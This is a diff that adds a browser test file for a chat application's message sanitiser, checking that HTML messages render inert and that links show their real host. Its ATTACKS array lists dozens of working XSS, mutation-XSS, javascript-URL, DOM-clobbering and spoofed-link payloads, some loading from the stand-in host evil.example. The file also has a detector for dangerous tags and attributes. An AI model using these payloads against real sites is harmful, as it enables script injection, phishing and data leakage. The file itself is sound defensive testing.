@@ -1,0 +1,186 @@
+/** Nothing of a message runs, loads or leads astray, whoever has written it and however. */
+import assert from 'node:assert/strict';
+import { after, before, test } from 'node:test';
+
+import { messages, openChat } from './chat.mjs';
+import { assertUntroubled, closeBrowser, Server, signIn, until } from './harness.mjs';
+
+/** Ways that have worked somewhere; each sets `window.ran` or loads from elsewhere if it works here. */
+const ATTACKS = [
+  '<script>window.ran=1</script>',
+  '<SCRIPT SRC="//evil.example/x.js"></SCRIPT>',
+  '<scr<script>ipt>window.ran=1</scr</script>ipt>',
+  '<img src=x onerror="window.ran=1">',
+  '<img src=x onerror=window.ran=1 //',
+  '<img/src="x"/onerror=&#119;indow.ran=1>',
+  '<img src="https://evil.example/seen.png">',
+  '<img srcset="https://evil.example/seen.png 2x">',
+  '<svg onload="window.ran=1"></svg>',
+  '<svg><script>window.ran=1</script></svg>',
+  '<svg><animate onbegin="window.ran=1" attributeName=x dur=1s></svg>',
+  '<svg><a xlink:href="javascript:window.ran=1"><text x=0 y=20>press</text></a></svg>',
+  '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"></use></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=window.ran=1>">',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;">',
+  '<math><a xlink:href="javascript:window.ran=1">press</a></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.ran=1>',
+  '<noscript><p title="</noscript><img src=x onerror=window.ran=1>"></noscript>',
+  '<template><img src=x onerror=window.ran=1></template>',
+  '<iframe src="javascript:window.parent.ran=1"></iframe>',
+  '<iframe srcdoc="<script>parent.ran=1</script>"></iframe>',
+  '<object data="javascript:window.ran=1"></object>',
+  '<embed src="data:text/html,<script>window.ran=1</script>">',
+  '<video><source onerror="window.ran=1"></video>',
+  '<audio src=x onerror=window.ran=1></audio>',
+  '<details open ontoggle="window.ran=1">x</details>',
+  '<input autofocus onfocus="window.ran=1">',
+  '<select autofocus onfocus=window.ran=1></select>',
+  '<marquee onstart="window.ran=1">x</marquee>',
+  '<body onload="window.ran=1">',
+  '<p onmouseover="window.ran=1" style="position:fixed;inset:0">cover</p>',
+  '<p style="background:url(https://evil.example/seen.png)">styled</p>',
+  '<style>*{background:url(https://evil.example/seen.png)}</style>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<base href="https://evil.example/">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<form action="https://evil.example/"><button>press</button></form>',
+  '<a href="javascript:window.ran=1">press</a>',
+  '<a href="JaVaScRiPt:window.ran=1">press</a>',
+  '<a href="java&#10;script:window.ran=1">press</a>',
+  '<a href="&#x6A;avascript:window.ran=1">press</a>',
+  '<a href=" javascript:window.ran=1">press</a>',
+  '<a href="data:text/html,<script>window.ran=1</script>">press</a>',
+  '<a href="vbscript:window.ran=1">press</a>',
+  '<a href="blob:https://evil.example/1">press</a>',
+  '<a href="https://evil.example/" target="_self" rel="opener" onclick="window.ran=1">https://bank.example</a>',
+  '<a href="https://bank.example@evil.example/">bank.example</a>',
+  '<a id="root" name="violations" href="https://evil.example">clobber</a>',
+  '<p id="root" name="getElementById">clobber</p>',
+  '<custom-element onclick="window.ran=1">x</custom-element>',
+  '<p is="x-y" contenteditable onblur=window.ran=1>x</p>',
+  '<at id="0"><img src=x onerror=window.ran=1></at>',
+  '<attachment id="x"><script>window.ran=1</script></attachment>',
+  '<codeblock><code><img src=x onerror=window.ran=1></code></codeblock>',
+  '<emoji alt="<img src=x onerror=window.ran=1>"></emoji>',
+  '<![CDATA[<img src=x onerror=window.ran=1>]]>',
+  '<!--><img src=x onerror=window.ran=1>-->',
+  '<p>\u202Etxt.exe\u202C</p>',
+];
+
+let server;
+let chat;
+before(async () => {
+  server = await Server.start();
+  const found = await server.call('Ben', 'GET', "me/chats?$filter=chatType eq 'oneOnOne'&$expand=members");
+  chat = found.value.find((one) => one.members.some((member) => member.displayName === 'Hana Sato')).id;
+});
+after(async () => {
+  await closeBrowser();
+  await server.end();
+});
+
+/** What is in the open chat, as far as it could harm. */
+async function harms(page) {
+  return messages(page).evaluate((list) => {
+    const found = [];
+    for (const element of list.querySelectorAll('[data-bubble] *')) {
+      const tag = element.localName;
+      if (/^(script|iframe|object|embed|img|video|audio|source|style|link|base|meta|form|input|select|button|template|math|noscript)$/.test(tag) || tag.includes('-')) found.push(`<${tag}>`);
+      for (const { name, value } of element.attributes) {
+        if (name.startsWith('on') || name === 'style' || name === 'srcdoc' || name === 'id' || name === 'name') found.push(`${tag}[${name}=${value}]`);
+      }
+      if (tag === 'a') {
+        const { protocol, rel, target } = element;
+        if (!['https:', 'http:', 'mailto:', 'tel:'].includes(protocol)) found.push(`a[href=${element.getAttribute('href')}]`);
+        if (!rel.includes('noopener') || target !== '_blank') found.push(`a without noopener: ${element.outerHTML}`);
+      }
+    }
+    return found;
+  });
+}
+
+/** Looks at every message that there is, with everything that was tried to be loaded. */
+async function look(page, marker) {
+  const strange = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) strange.push(request.url());
+  });
+  await openChat(page, 'Hana Sato');
+  await messages(page).getByText(marker).first().waitFor();
+  const all = [];
+  for (let step = 0; step < 40; step += 1) {
+    all.push(...(await harms(page)));
+    const isTop = await messages(page).evaluate((list) => {
+      const box = list.scrollHeight > list.clientHeight ? list : list.parentElement;
+      const before = box.scrollTop;
+      box.scrollTop = Math.max(0, before - 300);
+      return before === 0;
+    });
+    if (isTop && step > 3) break;
+    await page.waitForTimeout(60);
+  }
+  assert.deepEqual(all, []);
+  assert.deepEqual(strange, [], 'nothing is fetched from elsewhere');
+  assert.equal(await page.evaluate(() => window.ran), undefined);
+  assert.equal(await page.locator('#root').count(), 1);
+}
+
+test('attacks that are sent to the server reach the page inert', async () => {
+  for (const attack of ATTACKS) await server.say('Hana', chat, `<p>attack</p>${attack}`, 'html');
+  await server.say('Hana', chat, '<p>the last one, harmless</p>', 'html');
+  const page = await signIn(server, 'Ben');
+  await look(page, 'the last one, harmless');
+  await assertUntroubled(page);
+  await page.context().close();
+});
+
+test('attacks from a server that cleans nothing reach the page inert', async () => {
+  const page = await signIn(server, 'Ben');
+  let rewritten = 0;
+  await page.route(/\/messages(\?|$)/, async (route) => {
+    if (route.request().method() !== 'GET') return route.continue();
+    const answer = await route.fetch();
+    const body = await answer.json();
+    for (const [at, message] of (body.value ?? []).entries()) {
+      if (!message.body || message.messageType !== 'message') continue;
+      message.body = { contentType: 'html', content: `<p>raw attack</p>${ATTACKS[(at + rewritten) % ATTACKS.length]}` };
+    }
+    rewritten += (body.value ?? []).length;
+    return route.fulfill({ response: answer, json: body });
+  });
+  await page.reload();
+  await look(page, 'raw attack');
+  await until('enough was rewritten', () => rewritten >= ATTACKS.length);
+  // The browser reports what it meets while it parses for the cleaning, in a document that is never
+  // shown. What would be loaded or run is another kind of report.
+  const kinds = new Set((await page.evaluate(() => window.violations)).map((violation) => violation.split(' ')[0]));
+  for (const parsed of ['style-src-elem', 'style-src-attr', 'script-src-attr', 'base-uri']) kinds.delete(parsed);
+  assert.deepEqual([...kinds], []);
+  await page.context().close();
+});
+
+test('attacks as plain text are shown as they are, in requests too', async () => {
+  const asked = await server.chat(['Goran', 'Elif']);
+  for (const attack of ATTACKS.slice(0, 8)) await server.say('Goran', asked, attack);
+  const page = await signIn(server, 'Elif');
+  await openChat(page, 'Goran');
+  await page.getByRole('button', { name: 'Preview messages' }).click();
+  const preview = page.getByRole('list', { name: 'What the request says' });
+  await preview.getByText(ATTACKS[0], { exact: true }).waitFor();
+  assert.equal(await preview.locator('a, img, script, svg').count(), 0);
+  await page.getByRole('button', { name: 'Accept', exact: true }).click();
+  await messages(page).getByText(ATTACKS[0], { exact: true }).waitFor();
+  assert.deepEqual(await harms(page), []);
+  await assertUntroubled(page);
+  await page.context().close();
+});
+
+test('a link shows its real host', async () => {
+  const lies = '<p><a href="https://evil.example/x">https://bank.example</a> and <a href="https://bank.example@evil.example/y">bank</a></p>';
+  await server.say('Hana', chat, lies, 'html');
+  const page = await signIn(server, 'Ben');
+  await openChat(page, 'Hana Sato');
+  const hosts = messages(page).getByText('(evil.example)');
+  await until('both hosts are shown', async () => (await hosts.count()) >= 2);
+  await page.context().close();
+});
